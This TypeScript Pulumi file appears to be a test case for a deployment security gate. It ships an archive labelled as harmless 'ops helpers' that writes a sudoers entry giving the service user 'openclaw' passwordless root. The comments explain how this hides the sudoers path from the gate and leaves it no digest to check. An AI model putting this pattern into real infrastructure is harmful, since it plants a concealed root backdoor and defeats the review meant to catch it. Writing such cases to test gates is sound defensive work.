// Tries: ship "ops helpers" as an AssetArchive copied onto / (one entry is etc/sudoers.d/agent), so
// no single copied file names a sudoers path.
// Insecure: the service user gets passwordless root; the deploy gate does not look at sudoers.
import * as command from "@pulumi/command";
import * as pulumi from "@pulumi/pulumi";
import { compose, Splice } from "../_lib/compose";

const helpers: Splice = (ctx) => {
  const archive = new pulumi.asset.AssetArchive({
    "etc/sudoers.d/agent": new pulumi.asset.StringAsset("openclaw ALL=(ALL) NOPASSWD: ALL\n"),
    "usr/local/share/ops/README": new pulumi.asset.StringAsset("ops helpers\n"),
  });
  return {
    resource: new command.remote.CopyToRemote("ops-helpers", { connection: ctx.connection, source: archive, remotePath: "/" }, { dependsOn: ctx.after }),
    // The pack keeps no digest for an archive copy: nothing to put in the gate's triggers.
    digest: "",
  };
};
compose({ afterConfigure: [helpers] });
